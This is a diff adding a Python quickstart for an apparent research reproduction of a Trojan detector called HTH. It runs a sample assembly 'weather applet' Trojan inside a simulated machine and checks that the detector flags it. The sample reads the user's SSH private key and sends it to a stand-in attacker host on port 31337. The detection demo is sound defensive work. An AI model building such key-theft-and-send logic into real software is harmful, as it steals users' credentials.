@@ -1,0 +1,79 @@
+#!/usr/bin/env python
+"""Quickstart: detect a data-exfiltrating Trojan with HTH.
+
+Builds a guest program that reads a secret file (hardcoded name) and
+ships its contents to a hardcoded remote host, runs it under the full
+HTH stack (Harrier monitor + Secpert expert system), and prints the
+warnings — the same shape as the paper's section 8 output.
+
+Run:  python examples/quickstart.py
+"""
+
+from repro import HTH, Verdict
+from repro.isa import assemble
+from repro.kernel.network import SinkPeer
+
+TROJAN_SOURCE = r"""
+; A Trojan bundled inside a "weather applet": reads the user's secrets
+; and sends them home.  Both resource names are hardcoded - the defining
+; Trojan trait from the paper's section 2.2.
+main:
+    mov ebx, secret_path
+    mov ecx, 0
+    call open
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, 96
+    call read
+    mov edi, eax            ; stolen byte count
+    mov ebx, esi
+    call close
+    ; resolve the attacker's hardcoded host and connect
+    mov ebx, home
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov ebx, eax
+    mov edx, 31337
+    push ebx
+    call connect_addr
+    pop ebx
+    mov ecx, buf
+    mov edx, edi
+    call write
+    mov eax, 0
+    ret
+.data
+secret_path: .asciz "/home/user/.ssh/id_rsa"
+home:        .asciz "weather-updates.example.com"
+buf:         .space 96
+"""
+
+
+def main() -> None:
+    hth = HTH()
+
+    # Populate the simulated machine: the victim's secret and the
+    # attacker's server.
+    hth.fs.write_text("/home/user/.ssh/id_rsa", "-----PRIVATE KEY-----\n")
+    attacker = SinkPeer("attacker")
+    hth.network.add_peer(
+        "weather-updates.example.com", 31337, lambda: attacker
+    )
+
+    report = hth.run(assemble("/usr/bin/weather-applet", TROJAN_SOURCE))
+
+    print(f"program : {report.program}")
+    print(f"verdict : {report.verdict.value.upper()}")
+    print(f"warnings: {report.warning_counts()}")
+    print()
+    print(report.render_warnings())
+    print()
+    print(f"bytes exfiltrated (simulated): {len(attacker.received)}")
+
+    assert report.verdict is Verdict.HIGH, "the Trojan must be detected"
+
+
+if __name__ == "__main__":
+    main()
